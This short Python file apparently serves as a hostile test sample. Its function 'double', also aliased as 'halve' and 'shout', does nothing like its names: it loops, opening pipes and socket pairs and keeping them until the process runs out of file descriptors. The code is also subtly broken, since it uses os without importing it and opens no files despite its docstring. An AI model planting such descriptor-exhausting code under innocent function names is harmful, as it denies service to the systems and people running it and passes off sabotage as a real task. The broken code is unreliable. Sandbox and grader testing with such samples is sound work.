"""Opens files, pipes and sockets until there are no descriptors left."""
import socket

kept = []


def double(x):
    while True:
        try:
            kept.extend(os.pipe())
            kept.extend(socket.socketpair())
        except OSError:
            return x


halve = shout = double
